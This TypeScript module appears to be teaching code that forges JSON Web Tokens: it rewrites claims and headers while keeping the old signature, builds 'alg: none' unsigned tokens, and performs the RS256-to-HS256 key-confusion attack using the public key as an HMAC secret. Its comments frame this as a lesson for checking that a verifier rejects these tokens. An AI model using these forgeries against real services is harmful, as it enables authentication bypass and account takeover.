import { decodeBase64url, encodeBase64url } from './base64url.ts';

/**
 * What an attacker can do to a token without the pool's private key: change
 * its parts and put them back together, claim another algorithm, or sign it
 * with a key of their own. Each function returns a compact token; none of
 * them can produce a signature the pool's public key accepts, which is the
 * lesson. Plain Web APIs (WebCrypto), so they run in the browser and in Node.
 */

export interface TokenSegments {
  header: string;
  payload: string;
  signature: string;
}

export function splitToken(token: string): TokenSegments {
  const [header = '', payload = '', signature = ''] = token.split('.');
  return { header, payload, signature };
}

export function joinToken({ header, payload, signature }: TokenSegments): string {
  return `${header}.${payload}.${signature}`;
}

/** A part as a token carries it: the UTF-8 bytes of its JSON text, base64url-encoded. */
export function encodePart(json: string | Record<string, unknown>): string {
  return encodeBase64url(typeof json === 'string' ? json : JSON.stringify(json));
}

/** A part of a well-formed token as its JSON object; throws on anything else. */
export function decodePart(segment: string): Record<string, unknown> {
  const decoded = decodeBase64url(segment);
  if (!decoded.ok) throw new Error(`Not base64url: ${segment.slice(0, 20)}…`);
  return JSON.parse(new TextDecoder().decode(decoded.bytes)) as Record<string, unknown>;
}

/** Changes claims (undefined removes one) and keeps the original signature. */
export function withClaims(token: string, changes: Record<string, unknown>): string {
  const segments = splitToken(token);
  return joinToken({ ...segments, payload: encodePart(merge(decodePart(segments.payload), changes)) });
}

/** Changes header parameters (undefined removes one) and keeps the original signature. */
export function withHeader(token: string, changes: Record<string, unknown>): string {
  const segments = splitToken(token);
  return joinToken({ ...segments, header: encodePart(merge(decodePart(segments.header), changes)) });
}

function merge(object: Record<string, unknown>, changes: Record<string, unknown>): Record<string, unknown> {
  const merged = { ...object, ...changes };
  for (const [name, value] of Object.entries(changes)) if (value === undefined) delete merged[name];
  return merged;
}

/** `alg: none` (in the spelling given) and no signature: "trust me, I need no signature". */
export function unsigned(token: string, alg = 'none'): string {
  const segments = splitToken(token);
  return joinToken({ header: encodePart(merge(decodePart(segments.header), { alg })), payload: segments.payload, signature: '' });
}

/** An RSA public key (JWK) as the PEM text a careless verifier would load as its key. */
export async function publicKeyPem(jwk: JsonWebKey): Promise<string> {
  const key = await crypto.subtle.importKey('jwk', { kty: jwk.kty, n: jwk.n, e: jwk.e }, { name: 'RSASSA-PKCS1-v1_5', hash: 'SHA-256' }, true, ['verify']);
  const der = new Uint8Array(await crypto.subtle.exportKey('spki', key));
  let binary = '';
  for (const byte of der) binary += String.fromCharCode(byte);
  const lines = btoa(binary).match(/.{1,64}/g) ?? [];
  return `-----BEGIN PUBLIC KEY-----\n${lines.join('\n')}\n-----END PUBLIC KEY-----\n`;
}

/**
 * Key confusion: re-signs the token with HS256, using the pool's public key
 * (its PEM text, which anyone can fetch) as the HMAC secret. A verifier that
 * lets the token pick the algorithm and hands it "the key" would accept it;
 * one that insists on RS256 refuses it before looking at the signature.
 */
export async function signedWithPublicKey(token: string, jwk: JsonWebKey): Promise<string> {
  const segments = splitToken(token);
  const header = encodePart(merge(decodePart(segments.header), { alg: 'HS256' }));
  const secret = new TextEncoder().encode(await publicKeyPem(jwk));
  const key = await crypto.subtle.importKey('raw', secret, { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
  const signature = new Uint8Array(await crypto.subtle.sign('HMAC', key, new TextEncoder().encode(`${header}.${segments.payload}`)));
  return joinToken({ header, payload: segments.payload, signature: encodeBase64url(signature) });
}
